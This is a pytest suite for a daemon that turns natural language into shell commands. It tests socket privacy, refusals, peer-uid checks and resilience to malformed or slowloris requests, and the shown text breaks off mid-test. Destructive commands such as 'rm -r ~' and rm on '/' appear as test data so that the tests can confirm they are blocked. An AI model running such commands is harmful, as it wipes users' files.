"""The daemon and the `shellper` command, driven through real sockets and the real CLI."""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from daemon_helpers import (
    alive,
    client_translate,
    daemon_pid,
    fake_shell,
    fields,
    in_process_daemon,
    raw_exchange,
    reply_of,
    run_client,
    shellper,
    stop_daemon,
    wait_until,
    wire,
)
from fake_ollama import FakeOllama, raw_fields

from shellper_hook import client, paths, protocol


def translate(session, text, cwd=None, **extra):
    return client.request({"op": "translate", "session": session, "cwd": cwd or os.getcwd(), "text": text, **extra})


def history(session):
    reply = client.request({"op": "history", "session": session})
    assert reply["ok"], reply
    return reply


def test_autostart_and_private_socket(daemon_env, fake, tmp_path):
    fake.answer("src folder", "cd", {"folder": "src"})
    (tmp_path / "src").mkdir()
    assert daemon_pid() is None
    with fake_shell() as shell:
        reply = translate(shell, "go into the src folder", cwd=str(tmp_path))
    assert reply["ok"], reply
    assert reply["command"] == "cd src"
    assert reply["warnings"] == []
    sock = paths.socket_path()
    assert stat.S_ISSOCK(os.stat(sock).st_mode)
    assert stat.S_IMODE(os.stat(sock).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(sock)).st_mode) == 0o700
    assert alive(daemon_pid())


def test_warning_and_refusal_travel_to_the_client(daemon_env, fake, tmp_path):
    fake.answer("delete everything", "rm", {"file_name": "/"})
    fake.answer("show notes", "cat", {"file_name": "$HOME/notes.txt"})
    with fake_shell() as shell:
        refused = translate(shell, "delete everything", cwd=str(tmp_path))
        warned = translate(shell, "show notes", cwd=str(tmp_path))
    assert not refused["ok"] and refused["kind"] == "refused"
    assert "\n" not in refused["error"] and "/" in refused["error"]
    assert warned["ok"] and warned["command"] == "cat '$HOME/notes.txt'"
    assert warned["effect"] == "fails: '$HOME/notes.txt' is not there"
    assert warned["warnings"] == ["note: '$HOME/notes.txt' is taken literally: $HOME, $PWD and ~user are not expanded"]


def test_start_race_gives_exactly_one_daemon(daemon_env):
    def ping(_):
        return client.request({"op": "ping"})["pid"]

    with ThreadPoolExecutor(10) as pool:
        pids = set(pool.map(ping, range(10)))
    assert len(pids) == 1
    (pid,) = pids
    assert pid == daemon_pid()


def test_ten_processes_racing_start_one_daemon(daemon_env):
    procs = [
        __import__("subprocess").Popen(
            ["python3", "-c", "from shellper_hook import client; print(client.request({'op':'ping'})['pid'])"],
            stdout=-1,
            text=True,
        )
        for _ in range(10)
    ]
    pids = {int(p.communicate(timeout=30)[0]) for p in procs}
    assert len(pids) == 1


def test_idle_exit_removes_socket(daemon_env, monkeypatch):
    monkeypatch.setenv("SHELLPER_IDLE_EXIT", "0.5")
    pid = client.request({"op": "ping"})["pid"]
    assert wait_until(lambda: not alive(pid), 10), "daemon did not exit when idle"
    assert not os.path.exists(paths.socket_path())


def test_sigterm_exits_cleanly(daemon_env):
    pid = client.request({"op": "ping"})["pid"]
    os.kill(pid, 15)
    assert wait_until(lambda: not alive(pid), 10)
    assert not os.path.exists(paths.socket_path())


def test_stale_socket_is_replaced(daemon_env):
    path = paths.socket_path()
    paths.ensure_private_dir(os.path.dirname(path))
    dead = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    dead.bind(path)  # bound, never listening: what a crashed daemon leaves
    dead.close()
    assert os.path.exists(path)
    reply = client.request({"op": "ping"})
    assert reply["ok"] and alive(reply["pid"])


def test_stop_and_status_cli(daemon_env, fake):
    r = shellper("status")
    assert r.returncode != 0 and "not running" in r.stdout
    client.request({"op": "ping"})
    r = shellper("status")
    assert r.returncode == 0, r.stderr
    assert "pid" in r.stdout and fake.base_url in r.stdout and "reachable" in r.stdout
    assert "present yes" in r.stdout
    status = json.loads(shellper("status", "--json").stdout)
    assert status["server"]["model_present"] is True
    pid = status["pid"]
    r = shellper("stop")
    assert r.returncode == 0 and str(pid) in r.stdout
    assert wait_until(lambda: not alive(pid), 5)
    # A normal stop is one INFO line in the log the README sends people to, never a traceback.
    with open(paths.log_file()) as fh:
        log = fh.read()
    assert "shellper daemon stopped" in log
    assert "ERROR" not in log and "Traceback" not in log, log


def test_malformed_huge_and_slow_requests_never_kill_the_daemon(daemon_env, monkeypatch):
    pid = client.request({"op": "ping"})["pid"]
    bad = [
        b"this is not a request\n",  # no NUL at all, then the client hangs up
        b'{"v": 1, "op": "ping"}\n',  # the old JSON line
        b"translate\0",  # cut short
        b"ping\0\0\0\0\0",  # no empty field to end it
        fields("", "", "", "", ""),
        fields("nope", "", "", "", ""),
        fields("translate", "", "", "/", "x"),  # no PID
        fields("translate", "12a", "", "/", "x"),
        fields("translate", "-5", "", "/", "x"),
        fields("translate", "0", "", "/", "x"),
        fields("translate", str(2**31 + 1), "", "/", "x"),
        fields("translate", "1", "csh", "/", "x"),
        fields("translate", "1", "", "", "x"),  # no folder
        fields("ping", "", "", "", "", "v=99"),  # an unknown lower-case field
        fields("ping", "", "", "", "", "noequals"),  # a field without '='
        fields("ping", "", "", "", "", "=x"),
        b"\xff\xfe\0garbage\0\0\0\0\0",
        fields("executed", "1", "", "-", "ls", "status=five"),
        fields("reset", "", "", "", "", "all=no"),  # only all=1 wipes everything
        fields("translate", "1", "", "/", "x", "id=" + "x" * 65),
    ]
    for payload in bad:
        reply = reply_of(raw_exchange(payload, close_write=True))
        assert reply["ok"] is False and reply["kind"] == "bad_request", (payload[:40], reply)
        # Asked for JSON, the same refusal comes as JSON.
        if protocol.request_end(payload) == len(payload):
            asked = json.loads(raw_exchange(payload[:-1] + b"reply=json\0\0", close_write=True))
            assert asked["ok"] is False and asked["kind"] == "bad_request", (payload[:40], asked)
    limit = protocol.MAX_REQUEST
    for huge in (
        fields("ping", "", "", "", "", "A=" + "x" * (limit * 2)),
        b"x" * (limit * 2),  # a blob without a single NUL
        fields("ping", "", "", "", "", *["A=1"] * 100_000),  # 100k fields
    ):
        reply = reply_of(raw_exchange(huge, close_write=True))
        assert reply["ok"] is False and "larger" in reply["error"], (huge[:40], reply)
    # Many fields that fit are read as they are: the environment names in them are the terminal's.
    many = fields("ping", "", "", "", "", *[f"A{i}=1" for i in range(6000)], "reply=json")
    assert len(many) < limit and json.loads(raw_exchange(many))["pid"] == pid
    # A client that connects and says nothing is timed out, not waited on forever.
    started = time.monotonic()
    reply = reply_of(raw_exchange(b"", timeout=30))
    assert reply["ok"] is False and "no whole request" in reply["error"] and time.monotonic() - started < 15
    assert client.request({"op": "ping"})["pid"] == pid


@pytest.mark.parametrize("size", [70_000, 140_000, 300_000, 1_000_000])
def test_a_shells_request_too_large_gets_the_daemons_answer_whatever_its_size(daemon_env, size):
    """A paste of any size into the line: the shell shows why (the daemon's 'larger'
    refusal, through the client), never a socket error."""
    assert client.request({"op": "ping"})["ok"]
    with fake_shell() as shell:
        r = client_translate(shell, "/", "x" * size)
    assert r.returncode == 1 and r.stdout.startswith(b"error\0bad_request\0request larger than"), r.stdout[:200]


@pytest.mark.parametrize("size", [70_000, 140_000, 300_000])
def test_a_json_request_too_large_gets_a_json_answer_whatever_its_size(daemon_env, size):
    """client.request (the CLI's path, reply=json) is told 'larger' as JSON, not left
    with 'the daemon closed the connection without an answer' or a reset socket."""
    assert client.request({"op": "ping"})["ok"]
    with fake_shell() as shell:
        reply = client.safe_request({"op": "translate", "session": shell, "cwd": "/", "text": "x" * size})
    assert reply["ok"] is False and reply["kind"] == "bad_request" and "larger" in reply["error"], reply


def test_bytes_after_a_request_are_never_read_as_another(daemon_env):
    pid = client.request({"op": "ping"})["pid"]
    stop = fields("stop", "", "", "", "", "reply=json")
    reply = json.loads(raw_exchange(fields("ping", "", "", "", "", "reply=json") + stop))
    assert reply["ok"] and reply["pid"] == pid
    assert json.loads(raw_exchange(fields("ping", "", "", "", "", "reply=json") + b"\xff" * 1000 + b"\0" * 10))["pid"] == pid
    time.sleep(0.3)
    assert alive(pid) and client.request({"op": "ping"})["pid"] == pid


def test_a_slowloris_is_timed_out_and_holds_nobody_up(daemon_env):
    """A request sent a byte at a time, never finishing within READ_TIMEOUT: refused, and
    honest requests meanwhile are served at once."""
    pid = client.request({"op": "ping"})["pid"]
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(30)
    sock.connect(paths.socket_path())
    started = time.monotonic()
    try:
        payload = fields("ping", "", "", "", "", "A=" + "x" * 200)
        for i, byte in enumerate(payload[:-1]):
            try:
                sock.send(bytes([byte]))
            except OSError:  # it gave up on us
                break
            if i % 10 == 0:
                t = time.monotonic()
                assert client.request({"op": "ping"}, timeout=5)["pid"] == pid
                assert time.monotonic() - t < 2, "one slow sender held up a ping"
            if time.monotonic() - started > 8:
                break
            time.sleep(0.05)
        reply = reply_of(client._recv_all(sock))
    finally:
        sock.close()
    assert reply["ok"] is False and reply["kind"] == "bad_request" and "no whole request" in reply["error"], reply
    assert time.monotonic() - started < 15
    assert client.request({"op": "ping"})["pid"] == pid


def test_client_hangup_cancels_the_model_call(daemon_env, fake, tmp_path):
    fake.delay = 8
    with fake_shell() as shell:
        client.request({"op": "ping"})
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(paths.socket_path())
        sock.sendall(wire({"op": "translate", "session": shell, "cwd": str(tmp_path), "text": "slow"}))
        assert wait_until(lambda: len(fake.requests) == 1, 5)
        sock.close()  # the user pressed Ctrl-C
        assert wait_until(lambda: fake.disconnects >= 1, 5), "the model call was not abandoned"
        fake.delay = 0
        assert history(shell)["pending"] is None
    with open(paths.log_file()) as fh:
        assert "cancelled" in fh.read()


def test_two_terminals_keep_separate_conversations(daemon_env, fake, tmp_path):
    fake.answer("list", "ls", {"a": True})
    fake.answer("where", "pwd", {})
    with fake_shell() as a, fake_shell() as b:
        assert translate(a, "list everything", cwd=str(tmp_path), commit=True)["ok"]
        assert translate(b, "where am i", cwd=str(tmp_path), commit=True)["ok"]
        ha, hb = history(a)["exchanges"], history(b)["exchanges"]
        assert [e["request"] for e in ha] == ["list everything"]
        assert [e["request"] for e in hb] == ["where am i"]
        translate(a, "where now", cwd=str(tmp_path))
    sent = fake.requests[-1]["messages"]
    assert [m.get("content") for m in sent if m["role"] == "user"] == ["list everything", "where now"]


def test_pending_committed_edited_or_dropped(daemon_env, fake, tmp_path):
    fake.answer("last lines", "tail", {"file_name": "app.log", "lines": 20})
    fake.answer("show", "cat", {"file_name": "a.txt"})
    with fake_shell() as shell:
        assert translate(shell, "last lines of app.log", cwd=str(tmp_path))["command"] == "tail -n 20 app.log"
        assert history(shell)["pending"]["command"] == "tail -n 20 app.log"
        r = client.request({"op": "executed", "session": shell, "command": "tail -n 20 app.log", "status": 0})
        assert r["recorded"] == "committed"
        # Edited before running: recorded as what really ran.
        translate(shell, "last lines of app.log", cwd=str(tmp_path))
        r = client.request({"op": "executed", "session": shell, "command": "tail -n 5 app.log", "status": 0})
        assert r["recorded"] == "edited"
        # Skipped: the next request comes first, so the suggestion is forgotten.
        translate(shell, "show a", cwd=str(tmp_path))
        translate(shell, "last lines of app.log", cwd=str(tmp_path))
        h = history(shell)
    calls = [(e["call"]["name"], e["call"]["arguments"], e["edited"]) for e in h["exchanges"]]
    assert calls == [
        ("tail", {"file_name": "app.log", "lines": 20}, False),
        ("tail", {"file_name": "app.log", "lines": 5}, True),
    ]
    # The model never sees the skipped `cat`, and sees the edited call as the user ran it.
    last = fake.requests[-1]["messages"]
    assistant_args = [json.loads(m["tool_calls"][0]["function"]["arguments"]) for m in last if m["role"] == "assistant"]
    assert assistant_args == [{"file_name": "app.log", "lines": 20}, {"file_name": "app.log", "lines": 5}]


def test_history_survives_daemon_restart(daemon_env, fake, tmp_path):
    fake.answer("hidden", "ls", {"a": True})
    with fake_shell() as shell:
        translate(shell, "show hidden files", cwd=str(tmp_path), commit=True)
        stop_daemon()
        pid2 = client.request({"op": "ping"})["pid"]
        assert alive(pid2)
        exchanges = history(shell)["exchanges"]
    assert [(e["request"], e["command"]) for e in exchanges] == [("show hidden files", "ls -a")]


def test_unknown_session_and_reset(daemon_env, fake, tmp_path):
    reply = translate(2**31 - 7, "list", cwd=str(tmp_path))
    assert not reply["ok"] and "no shell with PID" in reply["error"]
    with fake_shell() as shell:
        translate(shell, "list", cwd=str(tmp_path), commit=True)
        assert client.request({"op": "reset", "session": shell})["removed"] >= 1
        assert history(shell)["exchanges"] == []


def test_ask_history_reset_cli(daemon_env, fake, tmp_path):
    fake.answer("hidden", "ls", {"a": True})
    fake.answer("wipe", "rm", {"file_name": "/"})
    with fake_shell() as shell:
        r = shellper("ask", "--session", str(shell), "show", "hidden", "files", cwd=str(tmp_path))
        assert r.returncode == 0 and r.stdout == "ls -a\n", r.stderr
        r = shellper("ask", "--session", str(shell), "wipe", "it", "all", cwd=str(tmp_path))
        assert r.returncode == 3 and r.stdout == "" and "refused" in r.stderr
        h = json.loads(shellper("history", "--session", str(shell), "--json").stdout)
        assert [e["command"] for e in h["exchanges"]] == ["ls -a"]  # asked from the CLI = run
        assert "show hidden files" in shellper("history", "--session", str(shell)).stdout
        assert shellper("reset", "--session", str(shell)).returncode == 0
        h = json.loads(shellper("history", "--session", str(shell), "--json").stdout)
        assert h["exchanges"] == []


def test_ask_defaults_to_the_calling_shell(daemon_env, fake, tmp_path):
    fake.answer("hidden", "ls", {"a": True})
    out = __import__("subprocess").run(
        # `; true` keeps bash from exec-ing the last command in its own place.
        ["bash", "-c", "shellper ask show hidden files >/dev/null; shellper history --json; true"],
        capture_output=True,
        text=True,
        cwd=str(tmp_path),
        timeout=60,
    )
    h = json.loads(out.stdout)
    assert [e["request"] for e in h["exchanges"]] == ["show hidden files"]


def test_server_errors_reach_the_user_as_one_line(daemon_env, fake, tmp_path, monkeypatch):
    with fake_shell() as shell:
        fake.mode = "500"
        r = shellper("ask", "--session", str(shell), "list", cwd=str(tmp_path))
        assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1
        fake.mode = "ok"
        stop_daemon()
        monkeypatch.setenv("SHELLPER_MODEL", "missing_model")
        r = shellper("ask", "--session", str(shell), "list", cwd=str(tmp_path))
        assert r.returncode == 1 and "missing_model" in r.stderr and "setup-model" in r.stderr


def test_stranger_uid_is_refused(shellper_env, fake, monkeypatch):
    """The peer check, fed a uid that is not the daemon's (faking the check's input)."""
    _, stop = in_process_daemon(monkeypatch, fake, uid=os.getuid() + 4242)
    try:
        reply = client.request({"op": "ping"}, autostart=False)
        assert reply["ok"] is False and reply["kind"] == "denied"
    finally:
        stop()
    assert not os.path.exists(paths.socket_path())


def test_a_changed_config_file_is_used_at_the_next_request(daemon_env, fake, monkeypatch, tmp_path):
    """Set base_url in config.toml as the README says, with a daemon already running: the next
    request goes to the new server and says so; a file that no longer reads keeps the old settings."""
    monkeypatch.delenv("SHELLPER_BASE_URL")  # from the config file, as a user sets it
    config = paths.config_file()
    os.makedirs(os.path.dirname(config))

    def write(text):
        with open(config + ".new", "w") as fh:  # an editor's save: a new file renamed over the old
            fh.write(text)
        os.replace(config + ".new", config)

    write(f'base_url = "{fake.base_url}"\n')
    fake.answer("list the files", "ls", {})
    with FakeOllama() as second, fake_shell() as shell:
        second.answer("list the files", "ls", {"a": True})
        first = translate(shell, "list the files", cwd=str(tmp_path))
        assert first["ok"] and first["command"] == "ls" and first["warnings"] == [], first
        write(f'# moved to the other server\nbase_url = "{second.base_url}"\n')
        moved = translate(shell, "list the files", cwd=str(tmp_path))
        assert moved["ok"] and moved["command"] == "ls -a", moved  # the second server answered
        assert moved["warnings"] == [f"settings reloaded from {config}"], moved  # and no "other settings"
        assert len(second.requests) == 1 and len(fake.requests) == 1
        assert client.request({"op": "status"})["base_url"] == second.base_url
        again = translate(shell, "list the files", cwd=str(tmp_path))
        assert again["command"] == "ls -a" and again["warnings"] == [], again  # said once
        write('base_url = "http://\n')  # half-saved: not TOML
        broken = translate(shell, "list the files", cwd=str(tmp_path))
        assert broken["ok"] and broken["command"] == "ls -a", broken  # the settings it had
        [why] = broken["warnings"]
        assert "config file is not used" in why and "earlier settings" in why and f"{config}: not valid TOML" in why
        assert "\n" not in why and len(second.requests) == 3 and len(fake.requests) == 1
        assert translate(shell, "list the files", cwd=str(tmp_path))["warnings"] == []
    with open(paths.log_file()) as fh:
        logged = fh.read()
    assert f"settings reloaded from {config} (base_url changed)" in logged and "cannot be used" in logged


def test_config_cli_shows_sources(shellper_env, monkeypatch):
    cfg = os.path.join(shellper_env["XDG_CONFIG_HOME"], "shellper")
    os.makedirs(cfg)
    with open(os.path.join(cfg, "config.toml"), "w") as fh:
        fh.write('model = "from_file"\nmax_turns = 3\n')
    monkeypatch.setenv("SHELLPER_TIMEOUT", "12")
    r = shellper("config", "--json")
    assert r.returncode == 0, r.stderr
    conf = json.loads(r.stdout)
    assert conf["model"]["value"] == "from_file" and "config.toml" in conf["model"]["source"]
    assert conf["timeout"]["value"] == 12 and "SHELLPER_TIMEOUT" in conf["timeout"]["source"]
    assert conf["base_url"]["source"] == "default"
    with open(os.path.join(cfg, "config.toml"), "w") as fh:
        fh.write('modle = "typo"\n')
    r = shellper("config")
    assert r.returncode == 1 and "modle" in r.stderr and "config.toml" in r.stderr


def test_every_subcommand_has_help():
    for sub in ("ask", "history", "reset", "status", "stop", "daemon", "doctor", "config", "init", "export", "eval", "setup-model"):
        r = shellper(sub, "--help")
        assert r.returncode == 0 and "usage: shellper " + sub in r.stdout, sub


# ---------------------------------------------------------------- the socket's directory and its owner

NOBODY = 65534


def _listener(path, answer: bytes, uid=None):
    """A stand-in "daemon" at path that answers every connection with `answer`;
    with uid (root only), it listens as that user."""
    code = (
        "import os, socket, sys\n"
        f"uid = {uid!r}\n"
        "if uid is not None:\n"
        "    os.setgid(uid); os.setuid(uid)\n"
        "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
        f"s.bind({path!r}); os.chmod({path!r}, 0o777); s.listen(8)\n"
        "print('ready', flush=True)\n"
        "while True:\n"
        "    c, _ = s.accept()\n"
        "    try:\n"
        f"        c.recv(65536); c.sendall({answer!r})\n"
        "    except OSError:\n"
        "        pass\n"
        "    c.close()\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE)
    assert proc.stdout.readline() == b"ready\n"
    return proc


def _nul_translate(session, cwd, text, env=None):
    return client_translate(session, cwd, text, env=env)


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to listen as another user")
def test_client_never_talks_to_another_users_socket(shellper_env, tmp_path, monkeypatch):
    shared = tempfile.mkdtemp(prefix="sp-shared-", dir="/tmp")  # a place the other user can reach
    os.chmod(shared, 0o777)
    path = os.path.join(shared, "daemon.sock")
    monkeypatch.setenv("SHELLPER_SOCKET", path)
    proc = _listener(path, b"ok\0rm -r ~\0\0", uid=NOBODY)
    try:
        with fake_shell() as shell:
            r = _nul_translate(shell, str(tmp_path), "list files")
        assert r.returncode == 1
        fields = r.stdout.split(b"\0")
        assert fields[0] == b"error" and b"another user" in fields[2] and b"rm" not in r.stdout, r.stdout
        with pytest.raises(client.DaemonUnavailable, match="another user"):
            client.request({"op": "ping"}, autostart=False)
    finally:
        proc.kill()
        proc.wait()
        shutil.rmtree(shared, ignore_errors=True)


def test_client_checks_the_peer_uid(shellper_env, tmp_path, monkeypatch):
    """The same check fed a uid that is not ours (faking its input; runs as any user)."""
    path = str(tmp_path / "d.sock")
    monkeypatch.setenv("SHELLPER_SOCKET", path)
    proc = _listener(path, b'{"v":1,"ok":true,"pid":1}\n')
    try:
        assert client.request({"op": "ping"}, autostart=False)["ok"]
        real = os.getuid()
        monkeypatch.setattr(os, "getuid", lambda: real + 4242)
        with pytest.raises(client.DaemonUnavailable, match=f"uid {real}"):
            client.request({"op": "ping"}, autostart=False)
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to make a directory another user owns")
def test_runtime_dir_another_user_made_first_is_not_used(shellper_env, tmp_path, monkeypatch):
    # No logind: the fallback runtime base is a predictable name someone else may have created.
    base = tmp_path / "runtime-base"
    base.mkdir()
    os.chown(base, NOBODY, NOBODY)
    os.chmod(base, 0o777)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(base))
    got = paths.runtime_dir()
    assert not got.startswith(str(base)) and got == os.path.join(shellper_env["XDG_STATE_HOME"], "shellper", "run")
    # Too long a state path: the short /tmp fallback is used only when it is ours (or not there).
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / ("s" * 90)))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    short = tmp_path / f"shellper-{os.getuid()}"
    assert paths.runtime_dir() == str(short)
    short.mkdir()
    os.chown(short, NOBODY, NOBODY)
    assert paths.runtime_dir() != str(short)


def test_runtime_dir_symlink_is_not_used(shellper_env, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    run = os.environ["XDG_RUNTIME_DIR"]
    assert paths.runtime_dir() == os.path.join(run, "shellper")
    os.symlink(elsewhere, os.path.join(run, "shellper"))
    assert paths.runtime_dir() == os.path.join(shellper_env["XDG_STATE_HOME"], "shellper", "run")
    with pytest.raises(PermissionError, match="not a directory"):
        paths.ensure_private_dir(os.path.join(run, "shellper"))
    dangling = os.path.join(run, "dangling")
    os.symlink(str(tmp_path / "nowhere"), dangling)
    with pytest.raises(PermissionError, match="not a directory"):  # not a bare FileExistsError
        paths.ensure_private_dir(dangling)


# ---------------------------------------------------------------- stale sockets


def _bare_daemon(path):
    from shellper_hook.daemon import Daemon

    return Daemon(None, None, None, socket_path=path)


def test_a_file_at_the_socket_path_is_never_deleted(shellper_env, tmp_path):
    path = str(tmp_path / "run" / "daemon.sock")
    os.makedirs(os.path.dirname(path), mode=0o700)
    with open(path, "w") as fh:
        fh.write("my notes")
    with pytest.raises(PermissionError, match="not a socket"):
        _bare_daemon(path)._bind()
    with open(path) as fh:
        assert fh.read() == "my notes"


def test_a_busy_live_daemons_socket_is_never_deleted(shellper_env, tmp_path):
    from shellper_hook.daemon import AlreadyRunning

    path = str(tmp_path / "run" / "daemon.sock")
    os.makedirs(os.path.dirname(path), mode=0o700)
    live = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    live.bind(path)
    live.listen(0)  # a daemon too busy to accept: its backlog is full
    waiting = []
    try:
        for _ in range(4):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.setblocking(False)
            waiting.append(s)
            try:
                s.connect(path)
            except BlockingIOError:
                break
        ino = os.stat(path).st_ino
        outcome = []

        def bind():
            try:
                _bare_daemon(path)._bind()
            except Exception as exc:
                outcome.append(exc)

        t = threading.Thread(target=bind, daemon=True)
        t.start()
        t.join(5)
        assert not t.is_alive(), "starting next to a busy daemon hangs"
        assert outcome and isinstance(outcome[0], AlreadyRunning), outcome
        assert os.stat(path).st_ino == ino
    finally:
        for s in waiting:
            s.close()
        live.close()


# ---------------------------------------------------------------- replies the shells can trust


def test_a_reply_cut_short_never_reaches_the_line(shellper_env, tmp_path, monkeypatch):
    path = str(tmp_path / "d.sock")
    env = {**os.environ, "SHELLPER_SOCKET": path}
    for answer, expect in [
        (b"ok\0rm -r -- -x y", b"closed the connection"),  # the daemon died mid-reply
        (b"ok\0ls -a", b"closed the connection"),
        (b'{"v":1,"ok":false,"error":"empty request: type what you want first","kind":"bad_request"}\n', b"empty request"),
    ]:
        proc = _listener(path, answer)
        try:
            with fake_shell() as shell:
                r = _nul_translate(shell, str(tmp_path), "list", env=env)
        finally:
            proc.kill()
            proc.wait()
            os.unlink(path)
        fields = r.stdout.split(b"\0")
        assert r.returncode == 1 and len(fields) == 4 and fields[0] == b"error", r.stdout
        assert expect in fields[2], r.stdout


def test_a_refused_nul_request_gets_a_nul_reply(daemon_env):
    client.request({"op": "ping"})
    with fake_shell() as shell:
        raw = raw_exchange(wire({"op": "translate", "session": shell, "cwd": "/", "text": "  "}))
    fields = raw.split(b"\0")
    assert fields[:2] == [b"error", b"bad_request"] and b"empty request" in fields[2] and raw.endswith(b"\0"), raw


def test_a_client_that_never_reads_its_reply_is_dropped(shellper_env, fake, monkeypatch):
    from shellper_hook import daemon as daemon_mod
    from shellper_hook.store import session_key
    from shellper_hook.tools import ToolCall

    monkeypatch.setattr(daemon_mod, "WRITE_TIMEOUT", 0.5, raising=False)
    d, stop = in_process_daemon(monkeypatch, fake)
    try:
        with fake_shell() as shell:
            key = session_key(shell)
            for i in range(12):  # a history reply far larger than the socket's buffer
                d.store.add_exchange(key, f"{i} " + "x" * 60000, ToolCall("pwd", {}), "pwd")
            stuck = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            stuck.connect(paths.socket_path())
            try:
                stuck.sendall(wire({"op": "history", "session": shell}))
                assert wait_until(lambda: d.active == 1, 5)
                assert wait_until(lambda: d.active == 0, 5), "a stuck reader keeps the daemon busy forever"
            finally:
                stuck.close()
            assert client.request({"op": "ping"}, autostart=False)["ok"]
    finally:
        stop()


def test_reset_all_keeps_a_busy_terminals_requests_in_order(daemon_env, fake, tmp_path):
    fake.delay = 1.5
    with fake_shell() as shell:
        client.request({"op": "ping"})
        with ThreadPoolExecutor(2) as pool:
            first = pool.submit(translate, shell, "first", str(tmp_path))
            assert wait_until(lambda: len(fake.requests) == 1, 5)
            assert client.request({"op": "reset", "all": True})["ok"]
            second = pool.submit(translate, shell, "second", str(tmp_path))
            time.sleep(0.7)
            assert len(fake.requests) == 1, "two requests of one terminal ran at once"
            assert first.result(20)["ok"] and second.result(20)["ok"]


def test_a_slow_answer_makes_the_daemon_preload_the_model_again(shellper_env, fake, monkeypatch, tmp_path):
    """An evicted model comes back with Ollama's 5-minute default; the daemon re-pins it."""
    from shellper_hook import daemon as daemon_mod

    monkeypatch.setattr(daemon_mod, "RELOAD_SPIKE", 0.3)
    monkeypatch.setenv("SHELLPER_KEEP_ALIVE", "45m")
    d, stop = in_process_daemon(monkeypatch, fake)
    try:
        assert wait_until(lambda: d.server_info.get("ollama") and len(fake.preloads) == 1, 10)
        with fake_shell() as shell:
            assert translate(shell, "quick", cwd=str(tmp_path))["ok"]
            time.sleep(0.3)
            assert len(fake.preloads) == 1  # a fast answer changes nothing
            fake.delay = 0.5
            assert translate(shell, "slow", cwd=str(tmp_path))["ok"]
            assert wait_until(lambda: len(fake.preloads) == 2, 5)
            assert fake.preloads[-1]["keep_alive"] == "45m"
            assert translate(shell, "slow again", cwd=str(tmp_path))["ok"]
            time.sleep(0.3)
            assert len(fake.preloads) == 2  # not again right away
    finally:
        stop()


# What site's .pth files load at start-up (editable finders, certifi...) is not ours: subtract it.
HOT_PATH_PROBE = """
import sys
before = set(sys.modules)
{run}
new = {{m.split('.')[0] for m in set(sys.modules) - before}}
third_party = sorted(new - set(sys.stdlib_module_names) - {{'shellper_hook'}})
print('THIRD-PARTY:' + ','.join(third_party), file=sys.stderr)
"""


def test_the_widget_and_ask_paths_import_only_the_standard_library(daemon_env, fake, tmp_path):
    """Every key press pays these imports: openai, psutil or platformdirs would cost tens of ms."""
    import subprocess
    import sys

    fake.answer("hidden", "ls", {"a": True})
    runs = {
        "ask": "from shellper_hook import cli; cli.main(['ask', 'show', 'hidden', 'files'])",
        "client": (
            "import io, os, sys; from shellper_hook import client, protocol\n"
            "req = protocol.encode_request({'op': 'translate', 'session': os.getppid(), 'cwd': '.', 'text': 'show hidden'})\n"
            "sys.stdin = io.TextIOWrapper(io.BytesIO(req)); client._main([])"
        ),
    }
    for name, run in runs.items():
        r = subprocess.run(
            [sys.executable, "-c", HOT_PATH_PROBE.format(run=run)], capture_output=True, text=True, cwd=str(tmp_path), timeout=60
        )
        assert "ls -a" in r.stdout, (name, r.stdout, r.stderr)
        assert "THIRD-PARTY:\n" in r.stderr, (name, r.stderr)


# The bytes every request starts with (test_backend.PREFIX): what a server's prompt cache reuses.
PREFIX = ("model", "tools", "messages[0]", "temperature", "stream", "reasoning_effort", "chat_template_kwargs")


def test_the_daemon_warms_the_prompt_cache_at_start_outside_any_history(daemon_env, fake, tmp_path):
    fake.answer("hidden", "ls", {"a": True})
    client.request({"op": "ping"})
    assert wait_until(lambda: len(fake.warmups) == 1, 10), "no warm-up after start"
    assert len(fake.preloads) == 1  # the model is loaded first, then its prompt cache filled
    assert fake.requests == []
    with fake_shell() as shell:
        assert translate(shell, "show hidden files", cwd=str(tmp_path), commit=True)["command"] == "ls -a"
        exchanges = history(shell)["exchanges"]
    assert [e["request"] for e in exchanges] == ["show hidden files"]
    assert [m["content"] for m in fake.requests[0]["messages"] if m["role"] == "user"] == ["show hidden files"]
    warm, real = (raw_fields(raw) for raw in fake.raw_bodies)
    assert [k for k in PREFIX if warm[k] != real[k]] == []


def test_the_prefix_is_the_same_bytes_across_requests_terminals_and_restarts(daemon_env, fake, tmp_path):
    fake.answer("list", "ls", {"a": True})
    with fake_shell() as a, fake_shell() as b:
        for text in ("list everything", "list again"):  # the second carries history
            assert translate(a, text, cwd=str(tmp_path), commit=True)["ok"]
            assert translate(b, "where am i " + text, cwd=str(tmp_path), commit=True)["ok"]
        stop_daemon()
        assert translate(a, "list once more", cwd=str(tmp_path))["ok"]
        assert wait_until(lambda: len(fake.warmups) == 2, 10)
    assert len(fake.requests) == 5 and any(m["role"] == "assistant" for m in fake.requests[-1]["messages"])
    bodies = [raw_fields(raw) for raw in fake.raw_bodies]
    for key in PREFIX:
        assert len({body[key] for body in bodies}) == 1, key


def test_a_reloaded_model_gets_its_prompt_cache_warmed_again(shellper_env, fake, monkeypatch, tmp_path):
    from shellper_hook import daemon as daemon_mod

    monkeypatch.setattr(daemon_mod, "RELOAD_SPIKE", 0.3)
    d, stop = in_process_daemon(monkeypatch, fake)
    try:
        assert wait_until(lambda: len(fake.warmups) == 1, 10)
        with fake_shell() as shell:
